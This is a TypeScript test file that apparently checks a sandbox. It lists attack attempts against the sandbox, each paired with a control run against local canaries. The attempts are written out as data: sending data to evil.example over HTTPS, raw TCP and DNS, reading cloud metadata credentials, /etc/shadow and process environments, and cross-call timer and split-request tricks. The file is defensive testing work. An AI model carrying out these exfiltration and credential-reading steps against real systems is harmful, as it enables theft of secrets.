import { randomUUID } from 'node:crypto'
import { networkInterfaces } from 'node:os'
import { join } from 'node:path'

import type { Attack } from '../attack.ts'
import type { Instruction } from '../hostile-app/src/instruction.ts'
import { attemptInside, controlInside } from '../verdicts.ts'
import type { World } from '../world/world.ts'

type Aim = (world: World) => Instruction

/** The same instruction, at the same target: inside it must fail, outside it must work. */
const sameTarget = (aim: Aim): Pick<Attack, 'run' | 'controls' | 'control'> => ({
  run: async (world) => attemptInside(await world.inside('storefront', aim(world))),
  controls: 'the same code at the same target, outside a box',
  control: async (world) => controlInside(await world.outside(aim(world))),
})

/** Where the real target lies beyond this machine, a canary of ours takes its place for the control. */
const canaryInstead = (aim: Aim, canary: Aim): Pick<Attack, 'run' | 'controls' | 'control'> => ({
  run: async (world) => {
    const before = world.canaries.hits.length
    const attempt = attemptInside(await world.inside('storefront', aim(world)))
    // A canary that was hit meanwhile means that something got out, whatever the code in the box says.
    const [hit] = world.canaries.hits.slice(before)
    return hit === undefined ? attempt : { stopped: false, code: 'canary.hit', evidence: hit }
  },
  controls: 'the same code outside a box, against a canary of ours',
  control: async (world) => controlInside(await world.outside(canary(world))),
})

const noWay = [
  'ECONNREFUSED',
  'ENETUNREACH',
  'EHOSTUNREACH',
  'ETIMEDOUT',
  'ECONNRESET',
  'no answer',
  'Error: no answer',
  'closed',
]
const noName = ['ENOTFOUND', 'ENODATA', 'ETIMEOUT', 'ECONNREFUSED', 'EAI_AGAIN', 'ESERVFAIL', 'EREFUSED']
const noFile = ['ENOENT', 'EACCES', 'EPERM', 'empty']
const noDoor = ['door.unlisted', 'door.not_granted', ...noWay]

const tcp =
  (host: string) =>
  (world: World): Instruction => ({ do: 'raw', host, port: world.canaries.tcpPort, text: 'from-the-box' })

/** Every route of the poisoned dependency, and what else hostile code can try from inside. */
export const boxAttacks: readonly Attack[] = [
  {
    name: 'boxes.https',
    tries: 'send the environment to a collector over HTTPS',
    stoppedBy: 'door',
    expected: [...noDoor, ...noName, 'EPROTO', 'ERR_SSL_TLSV1_UNRECOGNIZED_NAME'],
    ...canaryInstead(
      () => ({ do: 'http', url: 'https://evil.example/from-the-box', method: 'POST', body: 'loot' }),
      ({ canaries }) => ({ do: 'http', url: `${canaries.httpsUrl}/control`, method: 'POST', body: 'loot' }),
    ),
  },
  {
    name: 'boxes.raw-tcp',
    tries: 'the same over a raw connection to an address on the internet',
    stoppedBy: 'box',
    expected: noWay,
    ...canaryInstead(
      () => ({ do: 'raw', host: '203.0.113.7', port: 4444, text: 'loot' }),
      ({ canaries }) => ({ do: 'raw', host: '127.0.0.1', port: canaries.tcpPort, text: 'loot' }),
    ),
  },
  {
    name: 'boxes.raw-443',
    tries: 'raw bytes to port 443, which ends at the box’s own door',
    stoppedBy: 'door',
    expected: noWay,
    ...canaryInstead(
      () => ({ do: 'raw', host: '198.51.100.9', port: 443, text: 'loot' }),
      ({ canaries }) => ({ do: 'raw', host: '127.0.0.1', port: canaries.tcpPort, text: 'loot' }),
    ),
  },
  {
    name: 'boxes.dns',
    tries: 'send it inside a name, asked of the resolver',
    stoppedBy: 'door',
    expected: noName,
    ...canaryInstead(
      () => ({ do: 'dns', name: '6c6f6f74.evil.example' }),
      ({ canaries }) => ({ do: 'dns', name: '6c6f6f74.evil.example', server: canaries.dnsServer }),
    ),
  },
  {
    name: 'boxes.dns-elsewhere',
    tries: 'ask a name server of the attacker’s own',
    stoppedBy: 'box',
    expected: noName,
    ...sameTarget(({ canaries }) => ({ do: 'dns', name: 'from-the-box.evil.example', server: canaries.dnsServer })),
  },
  {
    name: 'boxes.udp',
    tries: 'a datagram to a service on the host',
    stoppedBy: 'box',
    expected: [...noWay, 'no answer'],
    ...sameTarget(({ canaries }) => ({ do: 'udp', host: '127.0.0.1', port: canaries.udpPort })),
  },
  {
    name: 'boxes.metadata',
    tries: 'cloud credentials at 169.254.169.254',
    stoppedBy: 'door',
    expected: noDoor,
    ...canaryInstead(
      () => ({ do: 'http', url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' }),
      ({ canaries }) => ({ do: 'http', url: `${canaries.httpUrl}/latest/meta-data/` }),
    ),
  },
  {
    name: 'boxes.loopback',
    tries: 'a service on the host’s 127.0.0.1',
    stoppedBy: 'box',
    expected: noWay,
    ...sameTarget(tcp('127.0.0.1')),
  },
  {
    name: 'boxes.loopback-6',
    tries: 'the same on ::1',
    stoppedBy: 'box',
    expected: noWay,
    run: async (world) => attemptInside(await world.inside('storefront', tcp('::1')(world))),
    controls: 'the same code outside a box (on 127.0.0.1 where the machine has no IPv6)',
    control: async (world) =>
      controlInside(await world.outside(tcp(world.canaries.hasIpv6 ? '::1' : '127.0.0.1')(world))),
  },
  {
    name: 'boxes.gateway',
    tries: 'the gateway of the app itself, from inside, at the host’s own address',
    stoppedBy: 'box',
    expected: noWay,
    ...sameTarget((world) => ({
      do: 'raw',
      host: ownAddress() ?? '127.0.0.1',
      port: ownAddress() === undefined ? Number(new URL(world.hostile.gateway).port) : world.canaries.tcpPort,
      text: 'from-the-box',
    })),
    controls: 'a listener of ours at 127.0.0.1, outside a box',
    control: async (world) => controlInside(await world.outside(tcp('127.0.0.1')(world))),
  },
  {
    name: 'boxes.administration',
    tries: 'the server’s own socket for administration',
    stoppedBy: 'box',
    expected: noFile,
    ...sameTarget(({ hostile }) => ({ do: 'unix', path: join(hostile.folder, '.sallyport/api.sock') })),
  },
  {
    name: 'boxes.state',
    tries: 'the server’s state folder, keys and all',
    stoppedBy: 'box',
    expected: noFile,
    ...sameTarget(({ hostile }) => ({ do: 'file', path: join(hostile.folder, '.sallyport') })),
  },
  {
    name: 'boxes.host-files',
    tries: 'a file of the host that anybody there may read',
    stoppedBy: 'box',
    expected: noFile,
    ...sameTarget(({ hostile }) => ({ do: 'file', path: join(hostile.folder, 'canary.pem') })),
  },
  {
    name: 'boxes.shadow',
    tries: 'the password hashes of the host',
    stoppedBy: 'box',
    expected: noFile,
    ...canaryInstead(
      () => ({ do: 'file', path: '/etc/shadow' }),
      () => ({ do: 'file', path: '/etc/passwd' }),
    ),
  },
  {
    name: 'boxes.other-process',
    tries: 'the environment of a process on the host',
    stoppedBy: 'kernel',
    expected: noFile,
    ...sameTarget(() => ({ do: 'file', path: `/proc/${process.pid}/environ` })),
  },
  {
    name: 'boxes.environment',
    tries: 'keys in the environment, its own or that of the box’s first process',
    stoppedBy: 'box',
    expected: ['absent'],
    ...sameTarget(() => ({ do: 'environment', word: 'sk_test_fake' })),
  },
  {
    name: 'boxes.leftover-child',
    tries: 'a process left behind asks the runtime for the next person’s event',
    stoppedBy: 'box',
    expected: ['HTTP 403', 'EPERM', 'ECONNREFUSED', 'ECONNRESET', 'UND_ERR_SOCKET', 'gone'],
    run: async (world) => {
      const tag = randomUUID()
      const left = await world.inside('storefront', { do: 'child', forMs: 1_500, tag })
      if (!left.got)
        return { stopped: false, code: left.code, evidence: 'no child could be left behind, so nothing is shown' }
      await world.inside('storefront', { do: 'wait', ms: 200 })
      await world.inside('storefront', { do: 'wait', ms: 200 }, 'bob')
      const outcome = await world.printed(tag, 4_000)
      // No word at all: the box took the child along when it ended.
      return outcome === undefined
        ? { stopped: true, code: 'gone', evidence: 'the child was heard of no more' }
        : attemptInside(outcome)
    },
    controls: 'the same child outside a box gets an event from a runtime API of ours',
    control: async (world) => {
      const before = world.canaries.hits.length
      const runtimeApi = new URL(world.canaries.httpUrl).host
      await world.outside({ do: 'child', runtimeApi, forMs: 1_000, tag: 'control' })
      for (let tries = 0; tries < 30 && world.canaries.hits.length === before; tries += 1) {
        await new Promise((resolve) => setTimeout(resolve, 100))
      }
      const hit = world.canaries.hits.slice(before).find((line) => line.includes('/invocation/next'))
      return { succeeded: hit !== undefined, evidence: hit ?? 'it never asked' }
    },
  },
  {
    name: 'boxes.late-timer',
    tries: 'code of alice’s call waits until it is over and charges a card while bob’s runs',
    stoppedBy: 'door',
    expected: ['exit.no_invocation', 'exit.invocation_ended', 'ECONNRESET', 'UND_ERR_SOCKET', 'ENOTFOUND', 'gone'],
    run: async (world) => {
      const tag = randomUUID()
      const before = world.upstream.seen.length
      await world.inside('payments', { do: 'timer', afterMs: 400, tag, next: charge })
      await world.inside('payments', { do: 'wait', ms: 900 }, 'bob')
      const outcome = await world.printed(tag, 2_000)
      if (world.upstream.seen.length > before)
        return { stopped: false, code: 'charged', evidence: 'the payment API was reached' }
      return outcome === undefined
        ? { stopped: true, code: 'gone', evidence: 'the timer never fired' }
        : attemptInside(outcome)
    },
    controls: 'the same charge while alice’s own call runs',
    control: async (world) => controlInside(await world.inside('payments', charge)),
  },
  {
    name: 'boxes.half-request',
    tries: 'half a request is sent in one call and its end in the next',
    stoppedBy: 'door',
    expected: [
      'aborted',
      'exit.unfinished',
      'exit.invocation_ended',
      'ECONNRESET',
      'EPIPE',
      'closed',
      'ERR_STREAM_PREMATURE_CLOSE',
      'no answer',
    ],
    run: async (world) => {
      const before = world.upstream.seen.length
      await world.inside('payments', { do: 'begin', host: '192.0.2.1', port: 80, text: firstHalf })
      const outcome = await world.inside('payments', { do: 'finish', text: secondHalf })
      if (world.upstream.seen.length > before)
        return { stopped: false, code: 'charged', evidence: 'the payment API was reached' }
      return attemptInside(outcome)
    },
    controls: 'both halves within one call',
    control: async (world) => {
      const first: Instruction = { do: 'begin', host: '192.0.2.1', port: 80, text: firstHalf }
      return controlInside(
        await world.inside('orders', { do: 'both', first, second: { do: 'finish', text: secondHalf } }),
      )
    },
  },
]

const charge: Instruction = {
  do: 'http',
  url: 'https://api.stripe.com/v1/payment_intents',
  method: 'POST',
  headers: { 'content-type': 'application/x-www-form-urlencoded' },
  body: 'amount=1&currency=chf',
}

// A call from orders to payments, cut in the middle of its head.
const callBody = '{"do":"wait","ms":1}'
const firstHalf = 'POST /work HTTP/1.1\r\nhost: payments.fn.internal\r\n'
const secondHalf = [
  'content-type: application/json',
  `content-length: ${callBody.length}`,
  'connection: close',
  '',
  callBody,
].join('\r\n')

/** An address of this machine besides loopback, if it has one. */
function ownAddress(): string | undefined {
  return Object.values(networkInterfaces())
    .flat()
    .find((one) => one?.family === 'IPv4' && !one.internal)?.address
}
